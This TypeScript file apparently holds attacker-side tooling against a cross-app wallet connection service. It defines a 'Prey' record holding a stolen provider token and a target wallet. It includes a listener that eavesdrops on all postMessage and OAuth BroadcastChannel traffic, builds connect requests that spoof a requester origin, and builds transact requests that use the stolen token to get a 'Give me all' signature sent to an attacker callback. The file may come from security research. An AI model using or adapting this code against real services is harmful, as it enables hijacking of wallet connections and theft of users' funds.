/**
 * A page on an origin of its own that wants what only another page may have: a connection to the wallets of an app, or what
 * they sign. Its visitor presses whatever it shows. It knows the wire from its public description. Runs in that page.
 */

/** What the page has to find its prey. */
export interface Prey {
  readonly serviceUrl: string;
  readonly providerAppId: string;
  /** An origin that may ask the provider. */
  readonly listedOrigin: string;
  /** A provider token that was stolen from there, or a made-up one. */
  readonly token: string;
  /** The address of the wallet that it is after. */
  readonly wallet: string;
  /** base64 of a compressed key of secp256k1, whose other half the page knows. */
  readonly publicKey: string;
}

/** What the page heard so far, as JSON; it listens to everything that a page can listen to. */
export function listen(): void {
  const heard: string[] = [];
  Object.assign(window, { heard });
  window.addEventListener('message', ({ data, origin }) => heard.push(JSON.stringify({ data, origin })));
  for (const name of ['popup-privy-oauth', 'privy-oauth', 'latchkey'])
    new BroadcastChannel(name).addEventListener('message', ({ data }) =>
      heard.push(JSON.stringify({ data, name })),
    );
}

/** The address that asks for a connection in the name of an origin. */
export function connectAddress(prey: Prey, origin: string): string {
  const url = new URL('/cross-app/connect', prey.serviceUrl);
  const query = {
    requester_public_key: prey.publicKey,
    connect: 'true',
    provider_app_id: prey.providerAppId,
    requester_origin: origin,
    smart_wallet_mode: 'false',
  };
  for (const [name, value] of Object.entries(query)) url.searchParams.set(name, value);
  return url.href;
}

/** The address that asks for a signature with the stolen token, to be answered to some page. */
export function transactAddress(
  prey: Prey,
  callbackUrl: string,
  timestamp: number,
  message = 'Give me all',
): string {
  const url = new URL('/oauth/transact', prey.serviceUrl);
  url.searchParams.set('token', prey.token);
  const request = { method: 'personal_sign', params: [message, prey.wallet] };
  url.searchParams.set(
    'request',
    JSON.stringify({ content: { request: { request } }, timestamp, callbackUrl }),
  );
  return url.href;
}
